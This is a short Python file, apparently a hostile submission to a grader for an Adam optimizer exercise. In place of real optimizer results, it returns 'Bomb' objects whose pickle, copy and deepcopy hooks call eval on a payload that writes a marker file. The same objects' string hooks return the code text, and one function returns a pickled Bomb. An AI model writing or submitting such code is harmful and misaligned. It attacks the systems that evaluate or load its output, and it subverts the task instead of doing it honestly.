"""Answer with objects that run code where somebody unpickles, copies, prints or evaluates them."""

import numpy as np

CODE = "__import__('pathlib').Path('left-by-attack').write_text('GOT IN')"


class Bomb:
    def __reduce__(self):
        return eval, (CODE,)

    __reduce_ex__ = lambda self, version: (eval, (CODE,))
    __repr__ = __str__ = __format__ = lambda self, *args: CODE
    __deepcopy__ = __copy__ = lambda self, *args: eval(CODE)


class Adam:
    def __init__(self, params, **options):
        params[:] = [Bomb(), np.array([Bomb()], dtype=object), CODE]

    def step(self, grads):
        return Bomb()


def update_moments(*args):
    return CODE, Bomb()


def bias_correction(*args):
    import pickle

    return pickle.dumps(Bomb()), np.array([Bomb()])
